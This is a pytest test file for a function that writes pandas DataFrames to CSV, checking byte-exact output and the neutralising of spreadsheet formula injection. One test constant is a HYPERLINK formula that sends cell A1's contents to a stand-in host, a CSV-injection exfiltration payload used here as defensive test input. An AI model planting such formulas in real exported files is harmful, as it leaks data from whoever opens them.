"""Frames as CSV: text that no spreadsheet runs, and all else to the byte as pandas has it."""

import csv
import io
from datetime import UTC, date, datetime

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from clinnlp.core.errors import RunError
from clinnlp.core.formulas import guarded
from clinnlp.report.csvs import write_frame

LINK = '=HYPERLINK("http://x.example/?"&A1,"more")'
TIMES = pd.DataFrame(
    {
        "a": [datetime(2024, 3, 1, 8), pd.NaT],
        "b": [date(2024, 3, 1), None],
        "c": pd.to_datetime(["2024-03-01", "2024-03-02"]).tz_localize(UTC),
        "d": pd.to_timedelta(["-1 days", "2 h"]),
    }
)
PLAIN = {
    "numbers": pd.DataFrame({"a": [-1, 0, 10**18], "b": [1 / 3, -0.0, 1e-300]}),
    "undefined": pd.DataFrame({"a": [np.nan, np.inf, -np.inf], "b": [None, -1.5, 2]}),
    "mixed objects": pd.DataFrame({"a": pd.Series([-1, -0.1, None, "x", True], dtype=object)}),
    "flags": pd.DataFrame({"a": [True, False], "b": pd.array([True, None], dtype="boolean")}),
    "whole numbers that may miss": pd.DataFrame({"a": pd.array([-5, None], dtype="Int64")}),
    "times": TIMES,
    "text": pd.DataFrame({"a": ["x, y", 'say "no"', "two\nlines"], "b": [None, "", "'tis"]}),
    "categories": pd.DataFrame({"a": ["x", None], "b": [1, -2]}, dtype="category"),
    "lists": pd.DataFrame({"a": [["=1"], ["=1", "b"], []]}),
    "no rows": pd.DataFrame({"a": [], "b": []}),
    "nothing": pd.DataFrame(),
    "numbers as names": pd.DataFrame([[1, 2]]),
    "one name twice": pd.DataFrame([[1, "x"]], columns=["a", "a"]),
    "a part of another": pd.DataFrame({"a": ["x", "y", "x"], "n": [1, 2, 3]}, index=[7, 7, 3])[1:],
}


def rows_of(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("name", PLAIN)
def test_what_is_no_formula_is_written_as_pandas_writes_it(tmp_path, name):
    frame = PLAIN[name]
    write_frame(frame, tmp_path / "a.csv")
    wanted = io.StringIO()
    frame.to_csv(wanted, index=False, lineterminator="\n")
    assert (tmp_path / "a.csv").read_bytes() == wanted.getvalue().encode()


@pytest.mark.parametrize("kind", ["object", "str", "string", "category"])
def test_text_is_guarded_whatever_holds_it_and_numbers_stay(tmp_path, kind):
    frame = pd.DataFrame({"p_=1": [-1.25, 2], LINK: pd.Series([LINK, None], dtype=kind)})
    frame = pd.concat([frame, frame.iloc[:1]])  # a row of the same index
    before = frame.copy()
    write_frame(frame, tmp_path / "a.csv")
    assert rows_of(tmp_path / "a.csv") == [
        ["p_=1", f"'{LINK}"], ["-1.25", f"'{LINK}"], ["2.0", ""], ["-1.25", f"'{LINK}"]
    ]  # fmt: skip
    pd.testing.assert_frame_equal(frame, before)


def test_text_among_numbers_is_guarded(tmp_path):
    frame = pd.DataFrame({"a": pd.Series([-1, "-1", np.str_("+x"), None], dtype=object)})
    write_frame(frame, tmp_path / "a.csv")
    assert rows_of(tmp_path / "a.csv")[1:] == [["-1"], ["'-1"], ["'+x"], [""]]


@given(st.lists(st.text(max_size=6), min_size=1, max_size=4))
def test_every_cell_is_read_back_as_it_was_guarded(tmp_path_factory, cells):
    path = tmp_path_factory.mktemp("csv") / "a.csv"
    write_frame(pd.DataFrame({"n": range(len(cells)), "t": cells}), path)
    assert [row[1] for row in rows_of(path)[1:]] == [guarded(cell) for cell in cells]


def test_no_cell_breaks_out_of_its_row(tmp_path):
    write_frame(
        pd.DataFrame({"a": ["x\r=1+1", "y\n=1+1", "z"], "b": [1, 2, 3]}), tmp_path / "a.csv"
    )
    wanted = b'a,b\n"x\r=1+1",1\n"y\n=1+1",2\nz,3\n'
    assert (tmp_path / "a.csv").read_bytes() == wanted


def test_a_failure_leaves_nothing(tmp_path, monkeypatch):
    def full(*_, **__):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", full)
    with pytest.raises(RunError, match="the disk is full"):
        write_frame(pd.DataFrame({"a": [1]}), tmp_path / "a.csv")
    assert not list(tmp_path.iterdir())
